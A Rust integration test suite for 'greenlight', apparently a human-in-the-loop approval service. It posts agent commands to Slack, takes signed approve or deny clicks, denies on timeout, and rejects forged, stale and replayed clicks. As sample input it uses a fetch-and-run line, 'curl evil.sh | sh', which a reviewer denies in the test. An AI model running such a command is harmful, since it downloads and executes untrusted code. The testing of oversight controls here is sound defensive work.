//! The spine: submit → Slack message → signed click → answer; timeout denies.

use std::time::Duration;

use reqwest::StatusCode;
use serde_json::{json, Value};

use crate::helpers::{request, spawn_app, spawn_app_with, Reply, TestApp, BOT_TOKEN, CHANNEL};

fn has_buttons(call: &crate::helpers::Call) -> bool {
    call.body["blocks"]
        .to_string()
        .contains("greenlight_approve")
}

#[tokio::test]
async fn approve_click_reaches_the_agent_and_updates_the_message() {
    let app = spawn_app().await;
    let id = app
        .submit_and_post(request("rm -rf /tmp/build-cache"))
        .await;

    let post = app.slack.nth_call("chat.postMessage", 1).await;
    assert_eq!(
        post.authorization.as_deref(),
        Some(&*format!("Bearer {BOT_TOKEN}"))
    );
    assert_eq!(post.body["channel"], CHANNEL);
    assert!(post.body["text"]
        .as_str()
        .expect("text")
        .starts_with("Approval needed: ci-bot"));
    let rendered = post.body["blocks"].to_string();
    assert!(
        rendered.contains("rm -rf /tmp/build-cache") && rendered.contains(&id),
        "{rendered}"
    );

    let poll = {
        let http = app.http.clone();
        let url = app.url(&format!("/v1/approvals/{id}?wait=30"));
        tokio::spawn(async move {
            let response = http
                .get(url)
                .bearer_auth(crate::helpers::AGENT_TOKEN)
                .send()
                .await
                .expect("poll");
            (
                response.status(),
                response.json::<Value>().await.expect("json"),
            )
        })
    };
    let ack = app.approve(&id, "U0ALICE").await;
    assert_eq!(ack.status, StatusCode::OK);

    let (status, body) = tokio::time::timeout(Duration::from_secs(5), poll)
        .await
        .expect("long-poll woke")
        .expect("task");
    assert_eq!(status, StatusCode::OK);
    assert_eq!(body["status"], "approved");
    assert_eq!(body["approved"], true);
    assert_eq!(body["decided_by"], "U0ALICE");
    assert_eq!(body["reason"], "Approved in Slack by <@U0ALICE>");
    assert!(body["decided_at"].is_string());

    let update = app
        .wait_for_update("the approved message", |c| c.body["ts"] == post_ts(&app))
        .await;
    assert!(!has_buttons(&update), "buttons must be gone");
    let blocks = update.body["blocks"].to_string();
    assert!(
        blocks.contains("Approved") && blocks.contains("<@U0ALICE>"),
        "{blocks}"
    );
    assert_eq!(update.body["channel"], CHANNEL);
}

fn post_ts(app: &TestApp) -> String {
    // The fake numbers messages from 1; the first message of an app is .000001.
    let _ = app;
    "1700000000.000001".to_owned()
}

#[tokio::test]
async fn deny_click_asks_why_and_the_reason_decides() {
    let app = spawn_app().await;
    let id = app.submit_and_post(request("curl evil.sh | sh")).await;
    assert_eq!(app.deny(&id, "U0BOB").await.status, StatusCode::OK);
    // The click alone decides nothing: it opens the reason modal with its trigger.
    let modal = app.wait_for_modal(&id).await;
    assert_eq!(modal.body["trigger_id"], "1111.2222.abcd");
    assert_eq!(app.approval(&id).await["status"], "pending");

    let ack = app
        .submit_reason(&id, "U0BOB", "Pipes a download into sh")
        .await;
    assert_eq!(ack.status, StatusCode::OK);
    assert_eq!(ack.body, Value::Null, "an empty ack closes the modal");
    let body = app.approval(&id).await;
    assert_eq!(body["status"], "denied");
    assert_eq!(body["approved"], false);
    assert_eq!(body["decided_by"], "U0BOB");
    assert_eq!(body["reason"], "Pipes a download into sh");
    let update = app
        .wait_for_update("the denied message", |c| !has_buttons(c))
        .await;
    let blocks = update.body["blocks"].to_string();
    assert!(
        blocks.contains("Denied") && blocks.contains("Pipes a download into sh"),
        "{blocks}"
    );
}

#[tokio::test]
async fn no_click_within_the_timeout_means_expired_and_denied() {
    let app = spawn_app().await;
    let mut body = request("sleep 1");
    body["timeout_secs"] = json!(1);
    let answer = app
        .submit_as(crate::helpers::AGENT_TOKEN, "?wait=10", body)
        .await;
    assert_eq!(answer.status, StatusCode::OK, "{:?}", answer.body);
    assert_eq!(answer.body["status"], "expired");
    assert_eq!(answer.body["approved"], false);
    assert_eq!(answer.body["decided_by"], "greenlight");
    let reason = answer.body["reason"].as_str().expect("reason");
    assert!(
        reason.contains("Timed out") && reason.contains("denied by default"),
        "{reason}"
    );
    let update = app
        .wait_for_update("the expired message", |c| !has_buttons(c))
        .await;
    assert!(update.body["blocks"].to_string().contains("Expired"));

    // A click after expiry changes nothing, and the clicker is told.
    let id = answer.body["id"].as_str().expect("id");
    assert_eq!(app.approve(id, "U0LATE").await.status, StatusCode::OK);
    assert_eq!(app.approval(id).await["status"], "expired");
    let note = app.slack.nth_call("chat.postEphemeral", 1).await;
    assert_eq!(note.body["user"], "U0LATE");
    assert!(note.body["text"]
        .as_str()
        .expect("text")
        .contains("already expired"));
}

#[tokio::test]
async fn forged_stale_and_unsigned_clicks_are_refused_without_effect() {
    let app = spawn_app().await;
    let id = app.submit_and_post(request("deploy")).await;
    let payload = TestApp::click_payload(&id, "greenlight_approve", "U0MALLORY");
    let now = chrono::Utc::now().timestamp();

    let (body, _) = TestApp::signed_form(&payload, now);
    let unsigned = app.send_interaction(body.clone(), None, None).await;
    let (_, wrong_secret_sig) = {
        let verifier = greenlight::slack::signature::SignatureVerifier::new(
            "not-the-secret".to_owned().into(),
        );
        (0, verifier.sign(now, &body))
    };
    let forged = app
        .send_interaction(body.clone(), Some(now.to_string()), Some(wrong_secret_sig))
        .await;
    // An hour either side: far outside the ±300 s window whatever the test's and the
    // server's clocks read a moment apart (one second from the edge would flake).
    let (stale_body, stale_sig) = TestApp::signed_form(&payload, now - 3600);
    let stale = app
        .send_interaction(stale_body, Some((now - 3600).to_string()), Some(stale_sig))
        .await;
    let (future_body, future_sig) = TestApp::signed_form(&payload, now + 3600);
    let future = app
        .send_interaction(
            future_body,
            Some((now + 3600).to_string()),
            Some(future_sig),
        )
        .await;
    // A valid signature over a different body than the one sent.
    let (_, sig_for_other) =
        TestApp::signed_form(&TestApp::click_payload(&id, "greenlight_deny", "U0X"), now);
    let swapped = app
        .send_interaction(body, Some(now.to_string()), Some(sig_for_other))
        .await;

    for (name, answer) in [
        ("unsigned", unsigned),
        ("forged", forged),
        ("stale", stale),
        ("future", future),
        ("swapped", swapped),
    ] {
        assert_eq!(answer.status, StatusCode::UNAUTHORIZED, "{name}");
        assert_eq!(answer.body["error"]["code"], "unauthorized", "{name}");
    }
    assert_eq!(app.approval(&id).await["status"], "pending");
    assert!(app.slack.calls_to("chat.update").is_empty());
    // Each attempt is on the request's audit trail, with no trusted actor.
    let events = app.get(&format!("/v1/approvals/{id}/events")).await.body;
    let rejected: Vec<&Value> = events["events"]
        .as_array()
        .expect("events")
        .iter()
        .filter(|e| e["kind"] == "click_rejected")
        .collect();
    // Identical refusals (the two bad signatures, the two stale timestamps) are one
    // entry each, with a count.
    assert_eq!(counted(&rejected), 5, "{events}");
    assert!(rejected
        .iter()
        .all(|e| e["actor"].is_null() && e["detail"]["why"] == "bad_signature"));
    assert!(app.slack.calls_to("chat.postEphemeral").is_empty());
}

/// How many occurrences `entries` stand for: each one's `detail.count`, or 1.
fn counted(entries: &[&Value]) -> u64 {
    entries
        .iter()
        .map(|e| e["detail"]["count"].as_u64().unwrap_or(1))
        .sum()
}

#[tokio::test]
async fn a_flood_of_forged_clicks_adds_a_few_counted_entries_not_one_each() {
    use futures::StreamExt;

    const FORGED: u64 = 300;
    let app = spawn_app().await;
    let id = app.submit_and_post(request("deploy")).await;
    // The trail's click_rejected entries (its `posted` entry may land meanwhile: the
    // post is seen at the stand-in before greenlight records it).
    let rejected = |events: &Value| -> Vec<Value> {
        events["events"]
            .as_array()
            .expect("events")
            .iter()
            .filter(|e| e["kind"] == "click_rejected")
            .cloned()
            .collect()
    };
    let before = rejected(&app.get(&format!("/v1/approvals/{id}/events")).await.body);
    assert!(before.is_empty(), "{before:?}");

    let payload = TestApp::click_payload(&id, "greenlight_approve", "U0X");
    let body = serde_urlencoded::to_string([("payload", payload)])
        .expect("encode")
        .into_bytes();
    let now = chrono::Utc::now().timestamp().to_string();
    let forged = format!("v0={}", "0".repeat(64));
    let statuses: Vec<StatusCode> = futures::stream::iter(0..FORGED)
        .map(|_| app.send_interaction(body.clone(), Some(now.clone()), Some(forged.clone())))
        .buffer_unordered(16)
        .map(|answer| answer.status)
        .collect()
        .await;
    assert!(statuses.iter().all(|s| *s == StatusCode::UNAUTHORIZED));

    // Every post was answered, so every attempt is counted; reading the trail writes
    // the tally.
    let after = rejected(&app.get(&format!("/v1/approvals/{id}/events")).await.body);
    let added: Vec<&Value> = after.iter().collect();
    assert!(
        added.len() <= 2,
        "{} entries for one flood: {added:?}",
        added.len()
    );
    assert_eq!(counted(&added), FORGED, "{added:?}");
    assert_eq!(app.approval(&id).await["status"], "pending");
}

#[tokio::test]
async fn replayed_and_late_clicks_never_change_the_decision() {
    let app = spawn_app().await;
    let id = app.submit_and_post(request("make release")).await;
    let payload = TestApp::click_payload(&id, "greenlight_approve", "U0ALICE");
    let now = chrono::Utc::now().timestamp();
    let (body, signature) = TestApp::signed_form(&payload, now);
    let first = app
        .send_interaction(body.clone(), Some(now.to_string()), Some(signature.clone()))
        .await;
    assert_eq!(first.status, StatusCode::OK);
    // The exact same signed request again (a replay within the window).
    let replay = app
        .send_interaction(body, Some(now.to_string()), Some(signature))
        .await;
    assert_eq!(replay.status, StatusCode::OK);
    // Someone else denies afterwards.
    assert_eq!(app.deny(&id, "U0BOB").await.status, StatusCode::OK);

    let body = app.approval(&id).await;
    assert_eq!(
        (body["status"].as_str(), body["decided_by"].as_str()),
        (Some("approved"), Some("U0ALICE"))
    );

    let notes = app
        .slack
        .wait_until(Duration::from_secs(10), "two ephemeral notes", |calls| {
            calls
                .iter()
                .filter(|c| c.method == "chat.postEphemeral")
                .count()
                >= 2
        })
        .await;
    let bob = notes
        .iter()
        .find(|c| c.method == "chat.postEphemeral" && c.body["user"] == "U0BOB")
        .expect("Bob is told");
    let text = bob.body["text"].as_str().expect("text");
    assert!(
        text.contains("already approved") && text.contains("<@U0ALICE>"),
        "{text}"
    );

    let events = app.get(&format!("/v1/approvals/{id}/events")).await.body;
    let kinds: Vec<(String, String)> = events["events"]
        .as_array()
        .expect("events")
        .iter()
        .map(|e| {
            (
                e["kind"].as_str().unwrap_or("").to_owned(),
                e["detail"]["why"].as_str().unwrap_or("").to_owned(),
            )
        })
        .collect();
    assert!(kinds.contains(&("decided".into(), "".into())));
    assert!(
        kinds.contains(&("click_ignored".into(), "duplicate".into())),
        "{kinds:?}"
    );
    assert!(
        kinds.contains(&("click_ignored".into(), "late".into())),
        "{kinds:?}"
    );
    // Exactly one decision, exactly one message update.
    assert_eq!(kinds.iter().filter(|(k, _)| k == "decided").count(), 1);
    tokio::time::sleep(Duration::from_millis(100)).await;
    assert_eq!(app.slack.calls_to("chat.update").len(), 1);
}

#[tokio::test]
async fn concurrent_approve_and_deny_decide_exactly_once() {
    let app = spawn_app().await;
    for round in 0..10 {
        let id = app.submit_and_post(request(&format!("echo {round}"))).await;
        // Bob has the reason modal open; his submit races Alice's Approve.
        assert_eq!(app.deny(&id, "U0BOB").await.status, StatusCode::OK);
        app.wait_for_modal(&id).await;
        let (a, b) = tokio::join!(
            app.approve(&id, "U0ALICE"),
            app.submit_reason(&id, "U0BOB", "not now")
        );
        assert_eq!((a.status, b.status), (StatusCode::OK, StatusCode::OK));
        let body = app.approval(&id).await;
        let expected_by = if body["status"] == "approved" {
            // Bob's late submission is refused in the modal, saying why.
            assert_eq!(b.body["response_action"], "errors", "{:?}", b.body);
            "U0ALICE"
        } else {
            assert_eq!(body["reason"], "not now");
            "U0BOB"
        };
        assert_eq!(body["decided_by"], expected_by, "{body}");
        let events = app.get(&format!("/v1/approvals/{id}/events")).await.body;
        let decided = events["events"]
            .as_array()
            .expect("events")
            .iter()
            .filter(|e| e["kind"] == "decided")
            .count();
        assert_eq!(decided, 1, "round {round}");
    }
}

#[tokio::test]
async fn two_hundred_concurrent_requests_each_get_their_own_answer() {
    let app = spawn_app().await;
    let submissions = (0..200).map(|i| {
        let app = &app;
        async move {
            let answer = app.submit(request(&format!("echo request-{i}"))).await;
            assert_eq!(answer.status, StatusCode::ACCEPTED, "{:?}", answer.body);
            (i, answer.body["id"].as_str().expect("id").to_owned())
        }
    });
    let ids: Vec<(usize, String)> = futures::future::join_all(submissions).await;
    app.slack
        .wait_until(Duration::from_secs(120), "200 messages", |calls| {
            calls
                .iter()
                .filter(|c| c.method == "chat.postMessage")
                .count()
                >= 200
        })
        .await;

    // Every agent long-polls while its request is clicked, even ones approved, odd denied.
    let rounds = ids.iter().map(|(i, id)| {
        let app = &app;
        async move {
            let url = app.url(&format!("/v1/approvals/{id}?wait=30"));
            let poll = app
                .http
                .get(url)
                .bearer_auth(crate::helpers::AGENT_TOKEN)
                .send();
            let click = async {
                if i % 2 == 0 {
                    app.approve(id, &format!("U0R{i}")).await
                } else {
                    // Deny, then the modal's submit (the fake opens every modal).
                    let click = app.deny(id, &format!("U0R{i}")).await;
                    assert_eq!(click.status, StatusCode::OK);
                    app.submit_reason(id, &format!("U0R{i}"), &format!("no {i}"))
                        .await
                }
            };
            let (response, ack) = tokio::join!(poll, click);
            assert_eq!(ack.status, StatusCode::OK);
            let body: Value = response.expect("poll").json().await.expect("json");
            // The poll may have answered before the click landed; then ask once more.
            let body = if body["status"] == "pending" {
                app.approval(id).await
            } else {
                body
            };
            (i, id, body)
        }
    });
    let mut without_dialog = 0;
    for (i, id, body) in futures::future::join_all(rounds).await {
        assert_eq!(body["id"], id.as_str());
        assert_eq!(body["approved"], i % 2 == 0, "request {i}: {body}");
        assert_eq!(body["decided_by"], format!("U0R{i}"));
        if i % 2 == 1 {
            // Slack gives a click's trigger 3 s to open the reason dialog. On a machine
            // loaded enough that 100 `views.open` calls miss that window, greenlight
            // denies at once without a reason, as it must; the typed reason then finds
            // the request decided. Either way the request has its own reviewer's denial.
            let reason = body["reason"].as_str().expect("reason");
            if reason != format!("no {i}") {
                assert!(
                    reason.ends_with("no reason was given (the reason dialog could not be opened)"),
                    "request {i}: {body}"
                );
                without_dialog += 1;
            }
        }
    }
    assert!(
        without_dialog < 100,
        "no reason dialog opened at all: the typed reasons were never checked"
    );
    eprintln!("{without_dialog} of 100 denials missed the dialog's 3 s window");
}

#[tokio::test]
async fn slack_refusing_the_post_denies_at_once_with_its_error() {
    for code in ["channel_not_found", "invalid_auth"] {
        let app = spawn_app().await;
        app.slack.always("chat.postMessage", Reply::Error(code));
        let answer = app
            .submit_as(crate::helpers::AGENT_TOKEN, "?wait=10", request("ls"))
            .await;
        assert_eq!(answer.status, StatusCode::OK, "{:?}", answer.body);
        assert_eq!(answer.body["status"], "denied");
        assert_eq!(answer.body["approved"], false);
        let reason = answer.body["reason"].as_str().expect("reason");
        assert!(reason.contains(code), "{reason}");
    }
}

#[tokio::test]
async fn post_wait_returns_the_decision_when_clicked_in_time() {
    let app = spawn_app_with(&[]).await;
    let submit = app.submit_as(
        crate::helpers::AGENT_TOKEN,
        "?wait=20",
        request("terraform apply"),
    );
    let click = async {
        let post = app.slack.nth_call("chat.postMessage", 1).await;
        let id = crate::helpers::approval_id_of(&post);
        app.approve(&id, "U0ALICE").await
    };
    let (answer, ack) = tokio::join!(submit, click);
    assert_eq!(ack.status, StatusCode::OK);
    assert_eq!(answer.status, StatusCode::OK);
    assert_eq!(answer.body["status"], "approved");
}

/// The same signed Deny click twice (a proxy retry, a replay inside the signature
/// window): one modal, and the replay decides nothing in the reviewer's name.
#[tokio::test]
async fn a_replayed_deny_click_opens_one_modal_and_decides_nothing() {
    let app = spawn_app().await;
    let id = app.submit_and_post(request("terraform destroy")).await;
    let payload = TestApp::click_payload(&id, "greenlight_deny", "U0BOB");
    let now = chrono::Utc::now().timestamp();
    let (body, signature) = TestApp::signed_form(&payload, now);
    for _ in 0..2 {
        let ack = app
            .send_interaction(body.clone(), Some(now.to_string()), Some(signature.clone()))
            .await;
        assert_eq!(ack.status, StatusCode::OK);
    }
    app.wait_for_modal(&id).await;
    tokio::time::sleep(Duration::from_millis(200)).await;
    assert_eq!(app.slack.calls_to("views.open").len(), 1);
    assert_eq!(app.approval(&id).await["status"], "pending");
    let kinds = app.event_kinds(&id).await;
    assert!(
        kinds.contains(&("click_ignored".to_owned(), "duplicate".to_owned())),
        "{kinds:?}"
    );
    // The reviewer's real answer still decides.
    let ack = app.submit_reason(&id, "U0BOB", "not today").await;
    assert_eq!(ack.status, StatusCode::OK);
    assert_eq!(app.approval(&id).await["reason"], "not today");
}
